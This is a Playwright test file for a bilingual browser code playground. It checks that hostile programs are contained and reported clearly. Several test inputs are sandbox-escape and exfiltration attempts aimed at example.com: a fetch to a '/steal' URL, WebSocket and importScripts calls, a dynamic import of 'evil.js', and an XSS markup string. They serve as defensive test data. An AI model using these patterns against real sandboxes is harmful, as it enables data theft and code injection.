import { expect, test, type Page } from '@playwright/test';
import { locales, type Locale } from '../../src/i18n/locales';
import { PAGE_OUTPUT_LIMITS } from '../../src/playground/output-limits';
import { MAX_PROGRAM_CHARS, OUTPUT_LINE_CAP, RUN_TIME_LIMIT_MS } from '../../src/runner/protocol';
import {
  activate,
  CHECKLIST_VALUE,
  checklistValue,
  guardOrigin,
  parts,
  playgroundPage,
  seedChecklist,
  typeProgram,
  waitForRunEnd,
} from './playground-support';

type RunStatus = 'ok' | 'failed' | 'time-limit' | 'flooded' | 'too-large';

interface Hostile {
  name: string;
  program: string;
  /** How the run must end (either of two when it depends on the machine's speed). */
  status: RunStatus | RunStatus[];
  /** Too long to compare with the editor's rendered lines once pasted. */
  large?: boolean;
  /** What the reader must be told, per language. */
  expect(page: Page, locale: Locale): Promise<void>;
}

const errorEntry = (page: Page) => parts(page).root.locator('.pg-error');
const seconds = String(RUN_TIME_LIMIT_MS / 1000);
const count = (n: number, locale: Locale) => new Intl.NumberFormat(locale).format(n);
const cutNote = (page: Page) => parts(page).root.locator('.pg-cut');
/** A comment of about `chars` characters, in lines of 100: how a long pasted program looks. */
const longComment = (chars: number) => Array.from({ length: Math.ceil(chars / 100) }, () => `// ${'x'.repeat(96)}`).join('\n');
/** Over `MAX_PROGRAM_CHARS`, so it is refused (a paste of 256 KB or more still takes the editor longer than a test's timeout). */
const bigPaste = `${longComment(128 * 1024)}\nconsole.log('never');`;
/** A flood ends at the page's event limit, or at the time limit on a machine too slow to reach it first. */
const floodNote = (locale: Locale) =>
  locale === 'en'
    ? new RegExp(
        `Stopped: the program sent more than ${count(PAGE_OUTPUT_LIMITS.flood, locale)} messages to the page\\.|Stopped after ${seconds} s`,
      )
    : new RegExp(
        `Parado: o programa mandou mais de ${count(PAGE_OUTPUT_LIMITS.flood, locale)} mensagens à página\\.|Parado após ${seconds} s`,
      );

const hostile: Hostile[] = [
  {
    name: 'an infinite loop',
    program: "console.log('before');\nwhile (true) {}",
    status: 'time-limit',
    async expect(page, locale) {
      await expect(parts(page).status).toContainText(
        locale === 'en' ? `Stopped after ${seconds} s: infinite loop?` : `Parado após ${seconds} s: loop infinito?`,
      );
      await expect(parts(page).lines.first()).toHaveText('before');
    },
  },
  {
    name: 'infinite recursion',
    program: 'function down(n: number): number {\n  return down(n + 1) + 1;\n}\ndown(0);',
    status: 'failed',
    async expect(page, locale) {
      await expect(errorEntry(page)).toContainText('RangeError: Maximum call stack size exceeded');
      // V8 notices the overflow either entering `down` (line 1) or at its recursive call (line 2).
      await expect(errorEntry(page).locator('.pg-goto')).toHaveText(locale === 'en' ? /^line [12]$/ : /^linha [12]$/);
    },
  },
  {
    name: 'a million lines of output',
    program: 'for (let i = 0; i < 1_000_000; i++) console.log(i);',
    status: 'ok',
    async expect(page, locale) {
      const cap = new Intl.NumberFormat(locale).format(OUTPUT_LINE_CAP);
      await expect(parts(page).root.locator('.pg-truncated')).toHaveText(
        locale === 'en' ? `Output cut after ${cap} lines.` : `Saída cortada após ${cap} linhas.`,
      );
      await expect(parts(page).root.locator('.pg-line[data-level="log"]')).toHaveCount(OUTPUT_LINE_CAP);
      await expect(parts(page).root.locator('.pg-line[data-level="log"]').last()).toHaveText(String(OUTPUT_LINE_CAP - 1));
    },
  },
  {
    name: 'a throw',
    program: "const reason = 'boom';\nthrow new Error(reason);",
    status: 'failed',
    async expect(page, locale) {
      await expect(errorEntry(page)).toContainText('Error: boom');
      await expect(errorEntry(page).locator('.pg-level')).toHaveText(locale === 'en' ? 'Error' : 'Erro');
      await expect(errorEntry(page).locator('.pg-goto')).toHaveText(locale === 'en' ? 'line 2' : 'linha 2');
      await errorEntry(page).locator('.pg-goto').click();
      await expect(parts(page).content).toBeFocused();
      await expect(parts(page).root.locator('.cm-activeLine')).toHaveText('throw new Error(reason);');
    },
  },
  {
    name: 'an unhandled rejection',
    program: "console.log('start');\nPromise.reject(new Error('nobody waits for me'));\nconsole.log('end');",
    status: 'failed',
    async expect(page, locale) {
      const entry = parts(page).root.locator('.pg-error[data-phase="unhandled-rejection"]');
      await expect(entry).toContainText('Error: nobody waits for me');
      await expect(entry.locator('.pg-level')).toHaveText(
        locale === 'en' ? 'Unhandled promise rejection' : 'Rejeição de promise não tratada',
      );
      await expect(entry.locator('.pg-goto')).toHaveText(locale === 'en' ? 'line 2' : 'linha 2');
    },
  },
  {
    name: 'a syntax error',
    program: "const ok = 1;\nconst broken = ;\nconsole.log('never');",
    status: 'failed',
    async expect(page, locale) {
      const entry = parts(page).root.locator('.pg-error[data-phase="compile"]');
      await expect(entry.locator('.pg-level')).toHaveText(locale === 'en' ? 'Syntax error' : 'Erro de sintaxe');
      await expect(entry.locator('.pg-goto')).toHaveText(locale === 'en' ? 'line 2' : 'linha 2');
      await expect(parts(page).root.locator('.pg-line[data-level="log"]')).toHaveCount(0);
    },
  },
  {
    name: 'reading localStorage',
    program: "console.log(localStorage.getItem('modulo05.checklist.v1'));",
    status: 'failed',
    async expect(page, locale) {
      await expect(errorEntry(page)).toContainText('ReferenceError: localStorage is not defined');
      await expect(errorEntry(page).locator('.pg-hint-inline')).toContainText(locale === 'en' ? 'isolated Worker' : 'Worker isolado');
    },
  },
  {
    name: 'reading document',
    program: "document.body.innerHTML = 'taken over';",
    status: 'failed',
    async expect(page) {
      await expect(errorEntry(page)).toContainText('ReferenceError: document is not defined');
      await expect(page.locator('h1')).toBeVisible();
    },
  },
  {
    name: 'fetching an outside URL',
    program: "const res = await fetch('https://example.com/steal?data=1');\nconsole.log(res.status);",
    status: 'failed',
    async expect(page) {
      await expect(errorEntry(page)).toContainText('TypeError');
      await expect(errorEntry(page)).toContainText('https://example.com/steal?data=1');
    },
  },
  {
    name: 'reaching the network around the lab (globalThis.fetch, XHR, WebSocket, importScripts)',
    program: [
      'const attempts: Array<[string, () => unknown]> = [',
      "  ['globalThis.fetch', () => globalThis.fetch('https://example.com/a')],",
      "  ['XMLHttpRequest', () => new XMLHttpRequest()],",
      "  ['WebSocket', () => new WebSocket('wss://example.com/ws')],",
      "  ['importScripts', () => (globalThis as any).importScripts('https://example.com/x.js')],",
      "  ['Worker', () => new Worker('https://example.com/w.js')],",
      '];',
      'for (const [name, attempt] of attempts) {',
      '  try {',
      '    await attempt();',
      "    console.log(name, 'REACHED');",
      '  } catch (e) {',
      "    console.log(name, 'blocked:', (e as Error).message.split(' (')[0]);",
      '  }',
      '}',
    ].join('\n'),
    status: 'ok',
    async expect(page) {
      const lines = parts(page).root.locator('.pg-line[data-level="log"]');
      await expect(lines).toHaveText([
        'globalThis.fetch blocked: fetch is not available',
        'XMLHttpRequest blocked: XMLHttpRequest is not available',
        'WebSocket blocked: WebSocket is not available',
        'importScripts blocked: importScripts is not available',
        'Worker blocked: Worker is not available',
      ]);
    },
  },
  {
    name: 'a dynamic import of another host from code built at run time',
    program: 'const load = new Function(\'return import("https://example.com/evil.js")\');\nawait load();',
    status: 'failed',
    async expect(page) {
      await expect(errorEntry(page)).toContainText('EvalError: dynamic import() in code built from a string is not available');
    },
  },
  {
    name: 'fetching from a CPU thread',
    program: [
      "import { createPool } from '@lab/cpu';",
      'const pool = createPool({ size: 1 });',
      'const answer = await pool.run(async () => {',
      '  try {',
      "    await fetch('https://example.com/from-thread');",
      "    return 'REACHED';",
      '  } catch (e) {',
      '    return String(e);',
      '  }',
      '});',
      'console.log(answer);',
    ].join('\n'),
    status: 'ok',
    async expect(page) {
      await expect(parts(page).lines.first()).toContainText('TypeError: fetch is not available');
    },
  },

  {
    name: 'a 50 MB error message',
    program: "throw new Error('E'.repeat(50_000_000));",
    status: 'failed',
    async expect(page, locale) {
      await expect(errorEntry(page).locator('pre')).toHaveText(new RegExp(`^Error: E{${PAGE_OUTPUT_LIMITS.errorChars - 7}}$`));
      await expect(cutNote(page)).toHaveText(
        locale === 'en' ? /^… [\d,]+ more characters left out\.$/ : /^… mais [\d.]+ caracteres omitidos\.$/,
      );
    },
  },
  {
    name: 'a 30 MB line let through by a poisoned String.prototype.slice',
    program: [
      '(String.prototype as any).slice = function (this: string) {',
      '  return String(this);',
      '};',
      "console.log('L'.repeat(30_000_000));",
    ].join('\n'),
    status: 'ok',
    async expect(page, locale) {
      await expect(parts(page).lines.first().locator('pre')).toHaveText(new RegExp(`^L{${PAGE_OUTPUT_LIMITS.lineChars}}$`));
      await expect(cutNote(page)).toHaveText(
        locale === 'en' ? /^… [\d,]+ more characters left out\.$/ : /^… mais [\d.]+ caracteres omitidos\.$/,
      );
    },
  },
  {
    name: '100,000 unhandled rejections',
    // Plain values, not Errors: 100,000 stack captures take seconds on a busy machine, and the
    // engine reports rejections only after the loop, so the time limit would end the run first.
    program: "for (let i = 0; i < 100_000; i++) Promise.reject('r' + i);",
    status: ['flooded', 'time-limit'],
    async expect(page, locale) {
      await expect(parts(page).status).toContainText(floodNote(locale));
      expect(await errorEntry(page).count()).toBeLessThanOrEqual(PAGE_OUTPUT_LIMITS.errors);
      // Flooded means more than the page's event limit arrived, far more errors than it shows.
      if ((await parts(page).status.textContent())?.match(locale === 'en' ? /^Stopped: the program sent/ : /^Parado: o programa mandou/)) {
        await expect(errorEntry(page).first()).toBeVisible();
        await expect(parts(page).root.locator('.pg-truncated[data-limit="errors"]')).toHaveText(
          locale === 'en'
            ? `More errors left out: showing only the first ${PAGE_OUTPUT_LIMITS.errors}.`
            : `Mais erros omitidos: mostrando só os primeiros ${PAGE_OUTPUT_LIMITS.errors}.`,
        );
      }
    },
  },
  {
    name: 'a million lab reports',
    program: "import { queryLog } from '@lab/db';\nfor (let i = 0; i < 1_000_000; i++) queryLog.print();",
    status: ['flooded', 'time-limit'],
    async expect(page, locale) {
      await expect(parts(page).status).toContainText(floodNote(locale));
      await expect(parts(page).root.locator('.pg-report').first()).toBeVisible();
      expect(await parts(page).root.locator('.pg-report').count()).toBeLessThanOrEqual(PAGE_OUTPUT_LIMITS.reports);
    },
  },
  {
    name: 'a 999 × 100 console.table',
    program: [
      'const rows = Array.from({ length: 999 }, (_, r) =>',
      '  Object.fromEntries(Array.from({ length: 100 }, (_, c) => [`c${c}`, r * c])),',
      ');',
      'console.table(rows);',
    ].join('\n'),
    status: 'ok',
    async expect(page, locale) {
      const table = parts(page).root.locator('.pg-table');
      await expect(table.locator('thead th')).toHaveCount(PAGE_OUTPUT_LIMITS.tableColumns);
      const rows = await table.locator('tbody tr').count();
      expect((rows + 1) * PAGE_OUTPUT_LIMITS.tableColumns).toBeLessThanOrEqual(PAGE_OUTPUT_LIMITS.tableCells);
      await expect(cutNote(page)).toHaveText(
        locale === 'en'
          ? new RegExp(`^Table cut: ${999 - rows} rows and \\d+ columns left out\\.$`)
          : new RegExp(`^Tabela cortada: ${999 - rows} linhas e \\d+ colunas omitidas\\.$`),
      );
    },
  },
  {
    name: 'output that looks like markup',
    program: 'console.log(\'<img src=x onerror="document.title=1"><script>alert(1)</script>\');',
    status: 'ok',
    async expect(page) {
      await expect(parts(page).lines.first()).toHaveText('<img src=x onerror="document.title=1"><script>alert(1)</script>');
      await expect(parts(page).output.locator('img, script')).toHaveCount(0);
    },
  },
  {
    name: 'a pool of a thousand CPU threads',
    program: "import { createPool } from '@lab/cpu';\nconst pool = createPool({ size: 1000 });\nawait pool.run(() => 1);",
    status: 'failed',
    async expect(page, locale) {
      await expect(errorEntry(page)).toContainText(
        locale === 'en'
          ? 'RangeError: createPool({ size: 1000 }): the lab allows at most'
          : 'RangeError: createPool({ size: 1000 }): o laboratório permite no máximo',
      );
    },
  },
  {
    name: 'a CPU thread that closes itself',
    program: [
      "import { createPool } from '@lab/cpu';",
      'const pool = createPool({ size: 1 });',
      'const answer = await pool.run(() => {',
      '  try {',
      '    (globalThis as any).close();',
      "    return 'CLOSED';",
      '  } catch (e) {',
      '    return String(e);',
      '  }',
      '});',
      'console.log(answer);',
    ].join('\n'),
    status: 'ok',
    async expect(page) {
      await expect(parts(page).lines.first()).toContainText('TypeError: close is not available');
    },
  },
  {
    name: 'a CPU thread in an infinite loop',
    program: [
      "import { createPool } from '@lab/cpu';",
      'const pool = createPool({ size: 1 });',
      "console.log('started');",
      'await pool.run(() => {',
      '  for (;;) {}',
      '});',
    ].join('\n'),
    status: 'time-limit',
    async expect(page, locale) {
      await expect(parts(page).status).toContainText(locale === 'en' ? `Stopped after ${seconds} s` : `Parado após ${seconds} s`);
    },
  },
  {
    name: 'a pasted program just under the size limit',
    program: `${longComment(MAX_PROGRAM_CHARS - 1_000)}\nconsole.log('long program ran');`,
    large: true,
    status: 'ok',
    async expect(page) {
      await expect(parts(page).lines).toHaveText(['long program ran']);
    },
  },
  {
    name: 'a pasted program of 128 KB, over the size limit',
    program: bigPaste,
    large: true,
    status: 'too-large',
    async expect(page, locale) {
      await expect(parts(page).status).toHaveText(
        locale === 'en'
          ? `Program too long to run: ${count(bigPaste.length, locale)} characters, and the limit is ${count(MAX_PROGRAM_CHARS, locale)}. Delete part of it (or “Reset to original”) and run again.`
          : `Programa longo demais para executar: ${count(bigPaste.length, locale)} caracteres, e o limite é ${count(MAX_PROGRAM_CHARS, locale)}. Apague parte dele (ou “Restaurar original”) e execute de novo.`,
      );
    },
  },
];

/** Pastes a program too long to compare with the editor's rendered lines; its end must be in the editor. */
async function pasteProgram(page: Page, code: string): Promise<void> {
  await activate(page);
  const p = parts(page);
  await p.content.click();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.insertText(code);
  await page.keyboard.press('ControlOrMeta+End');
  await expect(p.root.locator('.cm-line').last()).toHaveText(code.slice(code.lastIndexOf('\n') + 1));
}

let outside: string[] = [];
test.beforeEach(async ({ context, baseURL }) => {
  outside = await guardOrigin(context, baseURL!);
});
test.afterEach(() => {
  expect(outside, 'requests that left the site').toEqual([]);
});

for (const locale of locales) {
  test.describe(`hostile programs (${locale})`, () => {
    for (const h of hostile) {
      test(`${h.name}: a clear message, a responsive page, a working next run, the checklist untouched`, async ({ page }) => {
        await page.goto(playgroundPage[locale]);
        await seedChecklist(page);
        const p = parts(page);
        if (h.large) await pasteProgram(page, h.program);
        else await typeProgram(page, h.program);
        // The page answers right after the paste.
        expect(await page.evaluate(() => 6 * 7)).toBe(42);
        await p.run.click();

        // The page answers while the program runs or hangs.
        expect(await page.evaluate(() => 6 * 7)).toBe(42);
        const themes = page.locator('starlight-theme-select select').first();
        await themes.selectOption('light');
        await expect(page.locator('html')).toHaveAttribute('data-theme', 'light');
        await themes.selectOption('dark');
        await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');

        expect([h.status].flat()).toContain(await waitForRunEnd(page));
        await h.expect(page, locale);
        expect(await checklistValue(page)).toBe(CHECKLIST_VALUE);

        await typeProgram(page, "console.log('next run works');");
        await p.run.click();
        expect(await waitForRunEnd(page)).toBe('ok');
        await expect(p.lines).toHaveText(['next run works']);
        expect(await checklistValue(page)).toBe(CHECKLIST_VALUE);
      });
    }
  });
}
